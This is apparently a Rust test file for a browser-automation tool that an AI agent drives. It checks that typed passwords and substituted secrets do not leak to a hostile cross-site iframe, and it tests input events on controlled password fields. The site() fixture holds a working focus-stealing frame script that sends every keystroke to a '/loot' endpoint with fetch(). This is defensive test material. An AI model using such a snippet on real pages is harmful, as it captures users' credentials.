//! The focus belongs to the whole page, and any frame may take it. Keys go where it is.

use serde_json::json;

use crate::support::{Server, Site};

const PASSWORD: &str = "correct-horse-battery";

/// A form, and a frame of another site that wants the focus all the time and sends home what it gets.
fn site() -> Site {
    let site = Site::of("");
    let frame = site.other_url("/frame");
    let form = format!(
        "<title>Log in</title><label>Password <input type=password id=p></label>
         <label>Name <input id=n></label><iframe src='{frame}' style='width:1px;height:1px'></iframe>"
    );
    site.answer("/", crate::support::Answer::Html(form));
    site.answer(
        "/frame",
        crate::support::Answer::Html(
            "<input id=i><script>setInterval(() => i.focus(), 1);
             i.oninput = () => { fetch('/loot?' + encodeURIComponent(i.value)) }</script>"
                .into(),
        ),
    );
    site
}

/// Types into a field again and again while the frame wants the focus.
fn type_often(server: &mut Server, site: &Site, field: &str, text: &str, value: &str) {
    server.navigate(&site.url("/"));
    for round in 0..10 {
        server.evaluate("() => { p.value = n.value = '' }");
        let typed = server.call("browser_type", json!({ "ref": field, "text": text }));
        let holds = server.evaluate("() => p.value + n.value");
        if !typed.failed() {
            assert_eq!(holds, value, "round {round}: {}", typed.text());
        }
        let loot: Vec<String> =
            site.requests().into_iter().filter(|request| request.contains("/loot")).collect();
        assert_eq!(loot, Vec::<String>::new(), "round {round}");
    }
}

#[test]
fn a_frame_that_takes_the_focus_gets_no_password() {
    type_often(&mut Server::start(&[]), &site(), "#p", PASSWORD, PASSWORD);
}

#[test]
fn a_frame_that_takes_the_focus_gets_no_secret() {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), format!("PW={PASSWORD}\n")).unwrap();
    let mut server = Server::start(&["--secrets", &file.path().display().to_string(), "--dialect", "all"]);
    let site = site();
    // Replies do not tell it.
    type_often(&mut server, &site, "#p", "$PW", "<secret PW>");
    type_often(&mut server, &site, "#n", "$PW", "<secret PW>");
    // Key by key, as the other tool does it.
    for _ in 0..5 {
        server.evaluate("() => { p.value = n.value = '' }");
        server.call("type", json!({ "text": "$PW", "selector": "#p" }));
    }
    assert!(!site.requests().iter().any(|request| request.contains("/loot")), "{:?}", site.requests());
}

#[test]
fn controlled_password_fields_hear_of_what_is_typed() {
    // What is shown is what the page keeps, as frameworks do it; what is set behind its back is lost.
    let mut tab = crate::support::open(
        "<input type=password id=p value=old><button id=b disabled>Log in</button><script>
            let kept = 'old', heard = [];
            const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
            let seen = 'old';
            Object.defineProperty(p, 'value', { get() { return own.get.call(this) }, set(v) { seen = v; own.set.call(this, v) } });
            for (const kind of ['keydown', 'beforeinput', 'input', 'keyup', 'change'])
                p.addEventListener(kind, (event) => heard.push(kind + (event.isTrusted ? '' : '*')));
            p.addEventListener('input', () => {
                const now = own.get.call(p);
                if (now === seen) return;
                seen = kept = now;
                queueMicrotask(() => { p.value = kept });
            });
            p.addEventListener('keyup', () => { b.disabled = !kept });
        </script>",
    );
    tab.call("browser_type", json!({ "ref": "#p", "text": PASSWORD })).ok();
    assert_eq!(tab.evaluate("() => kept + ' ' + p.value"), format!("{PASSWORD} {PASSWORD}"));
    assert_eq!(tab.evaluate("() => b.disabled"), false);
    // What the browser itself tells is trusted.
    let heard = "() => heard.filter(kind => kind != 'beforeinput').join()";
    assert_eq!(tab.evaluate(heard), "keydown*,input,keyup*");
    tab.evaluate("() => p.blur()");
    assert_eq!(tab.evaluate("() => heard.at(-1)"), "change");
    tab.call("browser_type", json!({ "ref": "#p", "text": "" })).ok();
    assert_eq!(tab.evaluate("() => kept + p.value"), "");
}
